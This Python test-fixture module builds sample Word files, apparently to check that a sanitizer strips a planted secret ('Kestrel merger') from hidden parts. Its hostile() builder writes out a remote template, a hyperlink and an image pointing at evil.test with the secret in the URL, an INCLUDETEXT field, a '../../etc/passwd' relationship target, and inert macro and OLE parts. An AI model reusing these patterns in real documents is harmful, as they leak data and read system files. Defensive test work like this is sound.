"""Word files as clients send them, each written here part by part.

`SECRET` stands wherever a client's old words may hide.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Mapping
from dataclasses import dataclass, field

from word_document import WORD

SECRET = "Kestrel merger"
_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml."
_KIND = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
_NAMESPACES = (
    f'xmlns:w="{WORD}" xmlns:r="{_KIND[:-1]}"'
    ' xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"'
    ' xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"'
    ' xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing"'
    ' xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"'
    ' xmlns:w15="http://schemas.microsoft.com/office/word/2012/wordml"'
    ' xmlns:wps="http://schemas.microsoft.com/office/word/2010/wordprocessingShape"'
    ' mc:Ignorable="w15"'
)
_PARTS = {
    "styles": ("styles", "styles"),
    "numbering": ("numbering", "numbering"),
    "settings": ("settings", "settings"),
    "comments": ("comments", "comments"),
    "fontTable": ("fontTable", "fonts"),
    "header": ("header", "hdr"),
    "footer": ("footer", "ftr"),
}


def paragraph(text: str, style: str = "", more: str = "") -> str:
    named = f'<w:pStyle w:val="{style}"/>' if style else ""
    return f"<w:p><w:pPr>{named}{more}</w:pPr><w:r><w:t>{text}</w:t></w:r></w:p>"


def style(identifier: str, name: str, inside: str = "", kind: str = "paragraph") -> str:
    default = ' w:default="1"' if name in ("Normal", "Default Paragraph Font") else ""
    return (
        f'<w:style w:type="{kind}"{default} w:styleId="{identifier}"><w:name w:val="{name}"/>'
        f"{inside}</w:style>"
    )


def section(references: str = "", more: str = "", margin: int = 1440, size: str = "") -> str:
    size = size or 'w:w="11906" w:h="16838"'
    return (
        f'<w:sectPr>{references}<w:pgSz {size}/><w:pgMar w:top="1985" w:right="{margin}"'
        f' w:bottom="1418" w:left="{margin}" w:header="851" w:footer="567" w:gutter="0"/>'
        f"{more}</w:sectPr>"
    )


def picture(identifier: str, wide: int = 1800000, high: int = 450000) -> str:
    extent = f'cx="{wide}" cy="{high}"'
    return (
        f'<w:p><w:r><w:drawing><wp:inline distT="0" distB="0" distL="0" distR="0">'
        f'<wp:extent {extent}/><wp:docPr id="1" name="Logo" descr="Larch Partners"/>'
        '<a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture">'
        '<pic:pic><pic:nvPicPr><pic:cNvPr id="1" name="Logo"/><pic:cNvPicPr/></pic:nvPicPr>'
        f'<pic:blipFill><a:blip r:embed="{identifier}"/><a:stretch><a:fillRect/></a:stretch>'
        f'</pic:blipFill><pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext {extent}/></a:xfrm>'
        '<a:prstGeom prst="rect"><a:avLst/></a:prstGeom></pic:spPr></pic:pic></a:graphicData>'
        "</a:graphic></wp:inline></w:drawing></w:r></w:p>"
    )


def png(colour: tuple[int, int, int], wide: int = 40, high: int = 10) -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        checksum = zlib.crc32(kind + data)
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", checksum)

    rows = b"".join(b"\0" + bytes(colour) * wide for _ in range(high))
    head = struct.pack(">IIBBBBB", wide, high, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", head)
        + chunk(b"IDAT", zlib.compress(rows))
        + chunk(b"IEND", b"")
    )


@dataclass
class ClientFile:
    """Parts of a Word file by name; `relations` by the part that has them."""

    kind: str = "document"
    parts: dict[str, bytes] = field(default_factory=dict)
    relations: dict[str, list[str]] = field(default_factory=dict)
    types: dict[str, str] = field(default_factory=dict)

    def add(self, name: str, kind: str, inside: str, owner: str = "document") -> None:
        """A part of Word's under `word/<name>.xml`, with a relationship of the same name."""
        content_type, tag = _PARTS[kind]
        xml = f"<w:{tag} {_NAMESPACES}>{inside}</w:{tag}>"
        self.parts[f"word/{name}.xml"] = xml.encode()
        self.types[f"word/{name}.xml"] = f"{_MAIN}{content_type}+xml"
        self.relate(owner, name, kind, f"{name}.xml")

    def relate(
        self, owner: str, identifier: str, kind: str, target: str, *, external: bool = False
    ) -> None:
        mode = ' TargetMode="External"' if external else ""
        self.relations.setdefault(owner, []).append(
            f'<Relationship Id="{identifier}" Type="{_KIND}{kind}" Target="{target}"{mode}/>'
        )

    def body(self, inside: str) -> None:
        xml = f"<w:document {_NAMESPACES}><w:body>{inside}</w:body></w:document>"
        self.parts["word/document.xml"] = xml.encode()

    def content_types(self) -> bytes:
        return self._package_parts()["[Content_Types].xml"]

    def content(self, changed: Mapping[str, bytes] | None = None) -> bytes:
        parts = self.parts | self._package_parts() | dict(changed or {})
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
            for name, data in parts.items():
                archive.writestr(name, data)
        return buffer.getvalue()

    def _package_parts(self) -> dict[str, bytes]:
        main = {"word/document.xml": f"{_MAIN}{self.kind}.main+xml"}
        overrides = "".join(
            f'<Override PartName="/{name}" ContentType="{kind}"/>'
            for name, kind in (main | self.types).items()
        )
        types = (
            '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
            'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
            f'<Default Extension="png" ContentType="image/png"/>{overrides}</Types>'
        )
        root = f'<Relationship Id="r1" Type="{_KIND}officeDocument" Target="word/document.xml"/>'
        found = {
            f"word/_rels/{owner}.xml.rels": _relations("".join(lines))
            for owner, lines in self.relations.items()
            if owner
        }
        return found | {
            "[Content_Types].xml": types.encode(),
            "_rels/.rels": _relations(root + "".join(self.relations.get("", ()))),
        }


def _relations(lines: str) -> bytes:
    space = "http://schemas.openxmlformats.org/package/2006/relationships"
    return f'<Relationships xmlns="{space}">{lines}</Relationships>'.encode()


def _header(text: str) -> str:
    return f'<w:headerReference w:type="default" r:id="{text}"/>'


_TITLE_FIELD = (
    '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> TITLE </w:instrText>'
    f'</w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>{SECRET} title</w:t></w:r>'
    '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
)
_PAGE_FIELD = (
    '<w:p><w:r><w:t xml:space="preserve">Larch Partners · page </w:t></w:r>'
    '<w:r><w:fldChar w:fldCharType="begin"/>'
    '<w:instrText> PAGE </w:instrText><w:fldChar w:fldCharType="end"/></w:r></w:p>'
)


def english() -> ClientFile:
    """A Word in English: its ids, a header with a field, old text, comments, properties."""
    file = ClientFile()
    garamond = '<w:rPr><w:rFonts w:ascii="Garamond" w:hAnsi="Garamond"/><w:color w:val="7A1F1F"/>'
    file.add(
        "styles",
        "styles",
        style("Normal", "Normal", '<w:pPr><w:spacing w:after="160"/></w:pPr>')
        + style("Heading1", "heading 1", f'<w:basedOn w:val="Normal"/>{garamond}</w:rPr>')
        + style("Heading2", "Heading 2", '<w:basedOn w:val="Normal"/>')
        + style("ListBullet", "List Bullet", '<w:basedOn w:val="Normal"/>')
        + style("Title", "Title", f'<w:basedOn w:val="Normal"/>{garamond}</w:rPr>')
        + style("Strong", "Strong", "<w:rPr><w:b/></w:rPr>", "character")
        + style("Kasten", "Larch Box", '<w:aliases w:val="Callout,mini-summary"/>'),
    )
    file.add("header1", "header", _TITLE_FIELD)
    file.add("footer1", "footer", _PAGE_FIELD)
    comment = f'<w:comment w:id="0" w:author="{SECRET}">{paragraph(SECRET)}</w:comment>'
    file.add("comments", "comments", comment)
    lines = _header("header1") + '<w:footerReference w:type="default" r:id="footer1"/>'
    commented = '<w:p><w:commentRangeStart w:id="0"/><w:commentRangeEnd w:id="0"/></w:p>'
    file.body(paragraph(f"{SECRET} body", "Heading1") + commented + section(lines))
    core = (
        '<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/'
        'core-properties" xmlns:dc="http://purl.org/dc/elements/1.1/">'
        f"<dc:title>{SECRET}</dc:title></cp:coreProperties>"
    )
    file.parts["docProps/core.xml"] = core.encode()
    return file


def japanese() -> ClientFile:
    """A template of a Japanese Word: ids `a`, `1`, `a3`, names in English, aliases in Japanese."""
    file = ClientFile("template")
    mincho = '<w:rPr><w:rFonts w:eastAsia="ＭＳ 明朝"/><w:color w:val="005A3C"/></w:rPr>'
    bulleted = '<w:basedOn w:val="a"/><w:pPr><w:numPr><w:numId w:val="3"/></w:numPr></w:pPr>'
    file.add(
        "styles",
        "styles",
        style("a", "Normal", '<w:aliases w:val="標準"/>')
        + style("1", "heading 1", f'<w:basedOn w:val="a"/><w:next w:val="a"/>{mincho}')
        + style("2", "heading 2", '<w:basedOn w:val="a"/>')
        + style("a3", "Title", f'<w:basedOn w:val="a"/>{mincho}')
        + style("a4", "List Bullet", bulleted)
        + style("a0", "Default Paragraph Font", kind="character")
        + style("a5", "header", '<w:basedOn w:val="a"/>'),
    )
    file.add(
        "numbering",
        "numbering",
        '<w:abstractNum w:abstractNumId="0"><w:multiLevelType w:val="singleLevel"/>'
        '<w:lvl w:ilvl="0"><w:start w:val="1"/><w:numFmt w:val="bullet"/><w:pStyle w:val="a4"/>'
        '<w:lvlText w:val="●"/><w:lvlJc w:val="left"/></w:lvl></w:abstractNum>'
        '<w:num w:numId="3"><w:abstractNumId w:val="0"/></w:num>',
    )
    file.add("header1", "header", paragraph("株式会社ラーチ　社外秘", "a5"))
    grid = '<w:docGrid w:type="lines" w:linePitch="360"/>'
    file.body(paragraph(f"{SECRET}の件", "1") + section(_header("header1"), grid, 1701))
    return file


def letterhead() -> ClientFile:
    """Cover page, text and appendix as sections; a logo on the first page of the text."""
    file = english()
    file.parts["word/media/logo.png"] = png((122, 31, 31))
    file.parts["word/media/old.png"] = png((1, 2, 3)) + SECRET.encode()
    file.relate("header2", "logo", "image", "media/logo.png")
    file.relate("document", "cover", "image", "media/logo.png")
    file.relate("document", "old", "image", "media/old.png")
    file.add("header2", "header", picture("logo"))
    file.add("header3", "header", "<w:p/>")
    bound = (
        '<w:sdt><w:sdtPr><w:dataBinding w:xpath="/ns1:coreProperties[1]/ns0:title[1]"/></w:sdtPr>'
        f"<w:sdtContent>{paragraph(f'{SECRET} title', 'Title')}</w:sdtContent></w:sdt>"
    )
    blank = section(_header("header3"), '<w:vAlign w:val="center"/>')
    first = '<w:headerReference w:type="first" r:id="header2"/>'
    numbered = '<w:pgNumType w:start="1"/><w:titlePg/>'
    wide = section("", size='w:w="16838" w:h="11906" w:orient="landscape"')
    lines = '<w:footerReference w:type="default" r:id="footer1"/>'
    file.body(
        paragraph("Larch Partners", "Title")
        + picture("cover")
        + bound
        + f"<w:p><w:pPr>{blank}</w:pPr></w:p>"
        + paragraph(f"{SECRET} text")
        + picture("old")
        + f"<w:p><w:pPr>{section(_header('header1') + first + lines, numbered)}</w:pPr></w:p>"
        + paragraph(f"{SECRET} appendix")
        + wide
    )
    return file


def hostile() -> ClientFile:
    """Macro, remote template, OLE, ActiveX, fields that load, 500 styles, broken relationships."""
    file = english()
    many = "".join(style(f"Own{n}", f"Own {n}", '<w:basedOn w:val="Nowhere"/>') for n in range(500))
    circle = style("C1", "Circle 1", '<w:basedOn w:val="C2"/>')
    circle += style("C2", "Circle 2", '<w:basedOn w:val="C1"/>')
    doubled = style("Heading1", "heading 1") + style("Nameless", "")
    dangling = '<w:pPr><w:numPr><w:numId w:val="77"/></w:numPr></w:pPr>'
    styles = file.parts["word/styles.xml"].decode().replace("</w:styles>", "")
    styles += many + circle + doubled + style("L", "List Number", dangling) + "</w:styles>"
    file.parts["word/styles.xml"] = styles.encode()
    file.parts["word/vbaProject.bin"] = SECRET.encode()
    file.parts["word/activeX/activeX1.bin"] = SECRET.encode()
    file.parts["word/embeddings/oleObject1.bin"] = SECRET.encode()
    file.parts["customXml/item1.xml"] = f"<x>{SECRET}</x>".encode()
    file.parts["docProps/thumbnail.jpeg"] = SECRET.encode()
    file.relate("document", "macro", "vbaProject", "vbaProject.bin")
    file.relate("document", "gone", "image", "media/gone.png")
    file.relate("document", "styles", "styles", "../../etc/passwd")
    file.relate("", "thumb", "thumbnail", "docProps/thumbnail.jpeg")
    file.add("settings", "settings", '<w:attachedTemplate r:id="far"/><w:mirrorMargins/>')
    file.relate(
        "settings", "far", "attachedTemplate", f"http://evil.test/{SECRET}.dotm", external=True
    )
    file.relate("header1", "site", "hyperlink", f"http://evil.test/{SECRET}", external=True)
    file.relate("header1", "ole", "oleObject", "embeddings/oleObject1.bin")
    file.relate("header1", "far", "image", f"http://evil.test/{SECRET}.png", external=True)
    field = '<w:p><w:fldSimple w:instr=" {} "><w:r><w:t>{}</w:t></w:r></w:fldSimple></w:p>'
    file.add(
        "header1",
        "header",
        '<w:p><w:hyperlink r:id="site"><w:r><w:t>larch.test</w:t></w:r></w:hyperlink></w:p>'
        '<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office"'
        ' Type="Embed" r:id="ole"/></w:object></w:r></w:p>'
        + picture("far")
        + field.format(f"INCLUDETEXT &quot;//evil/{SECRET}&quot;", SECRET)
        + field.format("MACROBUTTON Run", SECRET)
        + f'<w:p><w:del w:id="1" w:author="x"><w:r><w:delText>{SECRET}</w:delText></w:r></w:del>'
        '<w:ins w:id="2" w:author="x"><w:r><w:t>kept</w:t></w:r></w:ins></w:p>'
        '<w:p><w:r><mc:AlternateContent><mc:Choice Requires="w15"><w:t>new</w:t></mc:Choice>'
        "<mc:Fallback><w:t>old</w:t></mc:Fallback></mc:AlternateContent></w:r></w:p>",
    )
    return file


def bare() -> ClientFile:
    """No running lines, Japanese lines, a cover as LibreOffice writes it, sides by its words."""
    file = english()
    grid = '<w:docGrid w:type="lines" w:linePitch="360"/>'
    cover = f'<w:p><w:pPr>{section()}<w:pStyle w:val="Title"/></w:pPr></w:p>'
    file.body(cover + paragraph(f"{SECRET} text") + section("", grid, 1000))
    file.add(
        "numbering",
        "numbering",
        '<w:abstractNum w:abstractNumId="1"><w:lvl w:ilvl="0"><w:start w:val="1"/>'
        '<w:lvlText w:val="%1"/><w:lvlJc w:val="start"/></w:lvl></w:abstractNum>',
    )
    font = '<w:font w:name="Carlito"><w:charset w:val="00" w:characterSet="utf-8"/></w:font>'
    file.add("fontTable", "fontTable", font)
    header = '<w:pPr><w:tabs><w:tab w:val="center" w:pos="9"/></w:tabs></w:pPr>'
    sheet = (
        file.parts["word/styles.xml"]
        .decode()
        .replace("</w:styles>", style("Header", "header", header) + "</w:styles>")
    )
    file.parts["word/styles.xml"] = sheet.encode()
    return file


TEMPLATES = {one.__name__: one for one in (english, japanese, letterhead, hostile, bare)}
